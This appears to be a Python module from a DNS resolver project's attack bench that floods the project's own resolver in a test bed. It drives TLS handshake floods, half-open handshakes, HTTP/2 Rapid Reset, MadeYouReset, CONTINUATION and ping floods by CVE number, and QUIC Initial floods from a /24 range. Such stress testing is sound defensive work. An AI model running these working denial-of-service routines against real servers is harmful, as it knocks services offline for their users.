"""Attacks over TLS, HTTP/2 and QUIC, each a function that works for some seconds.

Handshakes that end at every stage; HTTP/2 that has work done and asks nothing (CVE-2023-44487,
CVE-2025-8671, CVE-2024-27316, CVE-2019-9512); replies that nobody reads; QUIC connections that are
begun and left, and streams that are given up.
"""

from __future__ import annotations

import contextlib
import itertools
import socket
import ssl
import time
from typing import TYPE_CHECKING

import h2.config
import h2.connection
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection

from bench.attack.bed import ATTACKER, HTTPS_PORT, QUIC_PORT, RESOLVER, TLS_PORT
from bench.attack.client import query
from bench.attack.streams import TXT, connect, each_turn, framed
from resolver.protocol.transport import DOH_PATH
from resolver.upstream import https_words
from tests.listen.http2_frames import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    frame,
    reset,
    window,
)

if TYPE_CHECKING:
    from collections.abc import Callable

    from bench.attack.bed import Bed

_AT_ONCE = 100


def _context(alpn: str) -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    return context


_DOT, _H2 = _context("dot"), _context("h2")


# --- TLS -----------------------------------------------------------------------------------------


def handshakes(bed: Bed, seconds: float) -> str:
    """Whole handshakes, as fast as it goes, each dropped without a question."""
    done = refused = 0
    for _ in each_turn(seconds):
        stream = _wrapped(bed, TLS_PORT, _DOT)
        done += stream is not None
        refused += stream is None
        if stream is not None:
            stream.close()
    return f"{done} handshakes, {refused} refused"


def half_handshakes(bed: Bed, seconds: float) -> str:
    """The beginning of a handshake, cut off at every octet in turn, and left open."""
    count, open_ = 0, []
    for at in zip(each_turn(seconds), itertools.count(), strict=False):
        stream = connect(bed, ATTACKER, (RESOLVER, TLS_PORT))
        if stream is None:
            continue
        hello = _hello()
        with contextlib.suppress(OSError):
            stream.send(hello[: at[1] % len(hello)])
        open_.append(stream)
        count += 1
        if len(open_) > _AT_ONCE:
            open_.pop(0).close()
    for stream in open_:
        stream.close()
    return f"{count} begun"


def _hello() -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        _DOT.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    return outgoing.read()


def unread(bed: Bed, seconds: float) -> str:
    """32 connections ask for 60 kB many times over TLS and read nothing."""
    octets = framed(query("big.big.world", qtype=TXT)) * 540
    streams: list[ssl.SSLSocket] = []
    sent = ended = 0
    for _ in each_turn(seconds):
        while len(streams) < 32 and (stream := _wrapped(bed, TLS_PORT, _DOT, buffer=4096)):
            stream.settimeout(0.2)
            streams.append(stream)
        for stream in list(streams):
            try:
                sent += stream.send(octets)
            except TimeoutError:
                continue
            except OSError:
                ended += 1
                streams.remove(stream)
                stream.close()
        time.sleep(0.05)
    for stream in streams:
        stream.close()
    return f"{sent / 1000:.0f} kB sent, {ended} connections ended on us"


def _wrapped(
    bed: Bed, port: int, context: ssl.SSLContext, *, buffer: int = 0
) -> ssl.SSLSocket | None:
    stream = connect(bed, ATTACKER, (RESOLVER, port), buffer=buffer)
    if stream is None:
        return None
    try:
        return context.wrap_socket(stream, server_hostname="localhost")
    except OSError:
        stream.close()
        return None


# --- HTTP/2 --------------------------------------------------------------------------------------


def _over_http(bed: Bed, seconds: float, says: Callable[[bytes, int], bytes]) -> str:
    """Say, for each stream number, what *says* makes of a header block for it; connect anew
    whenever the connection is ended."""
    connections = streams = ended = 0
    for _ in each_turn(seconds):
        stream = _wrapped(bed, HTTPS_PORT, _H2)
        if stream is None:
            continue
        connections += 1
        http = h2.connection.H2Connection(h2.config.H2Configuration())
        http.initiate_connection()
        with stream:
            stream.settimeout(0.2)
            try:
                stream.sendall(http.data_to_send())
                for number in itertools.count(1, 2 * _AT_ONCE):
                    numbers = range(number, number + 2 * _AT_ONCE, 2)
                    stream.sendall(b"".join(says(_block(at), at) for at in numbers))
                    streams += len(numbers)
                    if _has_ended(stream):
                        break
            except TimeoutError:  # it reads no more, for now
                continue
            except OSError:  # ended while we spoke
                pass
            ended += 1
    return f"{connections} connections, {streams} streams, {ended} ended on us"


def _has_ended(stream: ssl.SSLSocket) -> bool:
    try:
        while data := stream.recv(65_536):
            if len(data) < 65_536:
                return False
    except TimeoutError:
        return False
    return True


def _block(number: int) -> bytes:
    """Literal fields, none of them kept."""
    question = query(f"n{number}.good.world")
    place = https_words.Place("localhost", DOH_PATH)
    return b"".join(
        b"\0" + bytes((len(key),)) + key + bytes((len(value),)) + value
        for key, value in (*place.headers(), https_words.length_of(question))
    )


def rapid_reset(bed: Bed, seconds: float) -> str:
    """CVE-2023-44487: streams opened, and given up at once."""
    return _over_http(
        bed, seconds,
        lambda block, at: frame(HEADERS, END_HEADERS, at, block) + reset(at),
    )  # fmt: skip


def made_you_reset(bed: Bed, seconds: float) -> str:
    """CVE-2025-8671: streams opened, and so used that the server gives them up."""
    return _over_http(
        bed, seconds,
        lambda block, at: frame(HEADERS, END_HEADERS | END_STREAM, at, block) + window(at, 0),
    )  # fmt: skip


def continuation(bed: Bed, seconds: float) -> str:
    """CVE-2024-27316: header blocks that never end."""
    return _over_http(
        bed, seconds,
        lambda block, at: frame(HEADERS, 0, at, block) + frame(CONTINUATION, 0, at, block) * 50,
    )  # fmt: skip


def pings(bed: Bed, seconds: float) -> str:
    """CVE-2019-9512: pings to be acknowledged."""
    return _over_http(bed, seconds, lambda _, __: frame(PING, 0, 0, bytes(8)))


# --- QUIC ----------------------------------------------------------------------------------------


def initials(bed: Bed, seconds: float) -> str:
    """Connections begun from all addresses of a /24, and left after the first datagram."""
    sent = 0
    sockets = [_bound(bed, f"198.51.100.{last}") for last in range(1, 200)]
    datagrams = [_initial() for _ in range(50)]
    pairs = zip(itertools.cycle(sockets), itertools.cycle(datagrams), strict=False)
    for _ in each_turn(seconds):
        for udp, data in itertools.islice(pairs, 100):
            with contextlib.suppress(OSError):
                udp.send(data)
                sent += 1
    for udp in sockets:
        udp.close()
    return f"{sent} datagrams"


def given_up(bed: Bed, seconds: float) -> str:
    """A question on each stream, given up as it is asked; anew whenever that is ended."""
    connections = streams = 0
    for _ in each_turn(seconds):
        udp = _bound(bed, ATTACKER)
        with udp:
            quic = _client()
            connections += 1
            for _ in each_turn(2.0):
                if quic._close_event is not None:  # noqa: SLF001  # there is no other way to see it
                    break
                streams += _give_up(quic)
                _exchange(quic, udp)
    return f"{connections} connections, {streams} streams"


def _give_up(quic: QuicConnection) -> int:
    if not quic._handshake_complete:  # noqa: SLF001  # as above
        return 0
    for _ in range(10):
        stream = quic.get_next_available_stream_id()
        quic.send_stream_data(stream, framed(query(f"q{stream}.good.world"))[:-3])
        quic.reset_stream(stream, 3)
    return 10


def _exchange(quic: QuicConnection, udp: socket.socket) -> None:
    for data, _ in quic.datagrams_to_send(now=time.monotonic()):
        with contextlib.suppress(OSError):
            udp.send(data)
    try:
        data = udp.recv(65_536)
    except OSError:
        quic.handle_timer(now=time.monotonic())
    else:
        quic.receive_datagram(data, (RESOLVER, QUIC_PORT), now=time.monotonic())


def _client() -> QuicConnection:
    configuration = QuicConfiguration(alpn_protocols=["doq"], is_client=True)
    configuration.verify_mode = ssl.CERT_NONE
    quic = QuicConnection(configuration=configuration)
    quic.connect((RESOLVER, QUIC_PORT), now=time.monotonic())
    return quic


def _initial() -> bytes:
    return _client().datagrams_to_send(now=time.monotonic())[0][0]


def _bound(bed: Bed, source: str) -> socket.socket:
    udp = bed.place.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.settimeout(0.02)
    udp.bind((source, 0))
    udp.connect((RESOLVER, QUIC_PORT))
    return udp
